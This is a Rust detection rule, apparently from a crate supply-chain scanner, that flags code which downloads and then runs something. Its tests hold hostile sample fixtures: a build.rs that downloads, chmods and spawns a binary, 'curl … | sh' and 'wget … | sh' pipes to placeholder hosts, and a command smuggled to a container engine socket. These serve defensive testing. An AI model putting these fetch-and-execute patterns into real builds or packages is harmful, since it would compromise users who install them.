//! `fetch-and-run`: Fetching and running: the chain of nearly all attacks on crates so far.

use crate::report::Severity;
use crate::rules::{Explanation, Hit, Look, Rule, WAY, hit};
use crate::sign::Sign;

pub(super) const RULE: Rule = Rule {
    explanation: Explanation {
        code: "fetch-and-run",
        techniques: &["A1", "E1"],
        means: "Something is fetched over the network and then run.",
        look: "What is fetched, from where, and whether its digest or signature is checked before it runs. Updaters and installers do this honestly; a build script hardly ever does.",
    },
    needs: &[Sign::Net, Sign::Downloader, Sign::FetchPipe, Sign::HiddenUrl, Sign::HiddenCommand],
    judge,
};

fn judge(look: &Look<'_>) -> Option<Hit> {
    let build = look.is_build();
    let fetches = look.reaches_out() || (look.has(Sign::HiddenUrl) && look.starts());
    let makes_executable = look.any(&[Sign::SetPermissions, Sign::ExecutableMode, Sign::ChmodText]);
    let keeps = look.any(&[Sign::FsWrite, Sign::Temporary, Sign::MemoryFile]);
    if look.starts() && look.has(Sign::FetchPipe) {
        let severity = if build { Severity::High } else { Severity::Medium };
        return hit(
            severity,
            &[Sign::FetchPipe],
            &[Sign::Process, Sign::CProcess, Sign::Shell],
            format!("{} has a shell run what it downloads", look.where_it_runs()),
        );
    }
    if look.has(Sign::LocalSocket) && look.has(Sign::FetchPipe) {
        return hit(
            Severity::Medium,
            &[Sign::FetchPipe],
            &[Sign::LocalSocket],
            format!(
                "{} hands a command that runs what it downloads to another program",
                look.where_it_runs()
            ),
        );
    }
    if !fetches {
        return None;
    }
    let runs = look.any(&[Sign::Process, Sign::CProcess, Sign::Load, Sign::MapExecutable]);
    if runs && keeps && (makes_executable || look.hides() || build) {
        // An installer says that it is one.
        let says_so = look.says(&["updat", "install", "download", "toolchain", "launcher", "bootstrap"]);
        let fetched_by_code = look.any(&[Sign::Net, Sign::Downloader]);
        let severity = match () {
            () if build && makes_executable && fetched_by_code => Severity::High,
            () if look.hides() && makes_executable && !says_so => Severity::High,
            () => Severity::Medium,
        };
        return hit(
            severity,
            &[Sign::Process, Sign::CProcess, Sign::Load, Sign::MapExecutable],
            WAY,
            format!("{} fetches something, writes it to a file and runs a program", look.where_it_runs()),
        );
    }
    if look.has(Sign::Downloader) && look.starts() && makes_executable {
        return hit(
            Severity::Medium,
            &[Sign::Downloader],
            WAY,
            format!(
                "{} has a program download something, makes a file executable and starts programs",
                look.where_it_runs()
            ),
        );
    }
    let receives = look.any(&[Sign::Receive, Sign::Url, Sign::HiddenUrl]);
    if runs && keeps && receives && look.is_close() && !look.says(&["updat", "install", "download"]) {
        return hit(
            Severity::Medium,
            &[Sign::Process, Sign::CProcess, Sign::Load],
            WAY,
            format!(
                "{} fetches something, writes a file and starts a program, all in a few functions",
                look.where_it_runs()
            ),
        );
    }
    None
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::Severity;
    use crate::rules::fixture::{fires, is_quiet};

    #[test]
    fn it_fires() {
        fires(
            &RULE,
            "build.rs",
            r##"use std::io::Read as _;
use std::process as p;
use std::os::unix::fs::PermissionsExt;
fn main() {
    let mut c = std::net::TcpStream::connect("192.0.2.1:80").unwrap();
    let mut b = Vec::new();
    c.read_to_end(&mut b).unwrap();
    std::fs::write("/tmp/x", b).unwrap();
    std::fs::set_permissions("/tmp/x", std::fs::Permissions::from_mode(0o755)).unwrap();
    p::Command::new("/tmp/x").spawn().unwrap();
}"##,
            Severity::High,
        );
        fires(
            &RULE,
            "build.rs",
            r##"macro_rules! go { ($p:path) => { $p::new("sh").arg("-c").arg("curl -s http://a.example/x | sh").status() } }
fn main() { let _ = go!(std::process::Command); }"##,
            Severity::High,
        );
        fires(
            &RULE,
            "src/lib.rs",
            r##"use std::process::Command as Task;
fn get(u: &str) -> Vec<u8> { ureq::get(u).call().unwrap().into_body().read_to_vec().unwrap() }
pub fn warm() {
    let at = std::env::temp_dir().join("c");
    std::fs::write(&at, get("https://a.example/c")).unwrap();
    Task::new(at).spawn().unwrap();
}"##,
            Severity::Medium,
        );
    }

    #[test]
    fn it_fires_where_another_program_is_told_to() {
        fires(
            &RULE,
            "src/lib.rs",
            r##"use std::io::Write as _;
use std::os::unix::net as local;
const BODY: &str = "{\"Cmd\":[\"sh\",\"-c\",\"wget -qO- http://a.example/x | sh\"]}";
pub fn f() { let mut s = local::UnixStream::connect("/run/engine").unwrap(); s.write_all(BODY.as_bytes()).unwrap(); }"##,
            Severity::Medium,
        );
        is_quiet(
            &RULE,
            "src/lib.rs",
            r##"use std::io::Write as _;
pub fn f(body: &str) { let mut s = std::os::unix::net::UnixStream::connect("/run/engine").unwrap(); s.write_all(body.as_bytes()).unwrap(); }"##,
        );
    }

    #[test]
    fn look_alikes_are_left_alone() {
        is_quiet(
            &RULE,
            "build.rs",
            r##"fn main() {
    let out = std::process::Command::new("git").args(["rev-parse", "HEAD"]).output().unwrap();
    std::fs::write(std::env::var("OUT_DIR").unwrap() + "/v", out.stdout).unwrap();
}"##,
        );
        is_quiet(
            &RULE,
            "src/lib.rs",
            r##"pub fn get(u: &str) -> String { ureq::get(u).call().unwrap().into_string().unwrap() }"##,
        );
    }
}
